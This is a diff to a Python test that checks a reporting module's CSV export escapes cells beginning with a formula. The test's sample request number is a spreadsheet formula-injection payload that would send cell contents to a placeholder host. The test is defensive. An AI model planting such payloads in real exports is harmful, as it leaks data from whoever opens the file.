@@ -608,6 +608,7 @@ async def test_no_cell_of_the_csv_export_is_a_formula(reporting: Reporting) -> N
     """Numbers typed by a requester and an office become cells: one that starts a formula gets
     an apostrophe in front (``infra.spreadsheet``), and nothing else changes."""
     r = reporting
+    r.clock.now = wib(DAY1, "08:02")  # before the disposition is due: no breach joins the rows
     rid = str(uuid.uuid4())
     letter = RequestLetter(
         number='=HYPERLINK("http://x.example/?"&A1,"klik")', date=dt.date(2024, 3, 1)
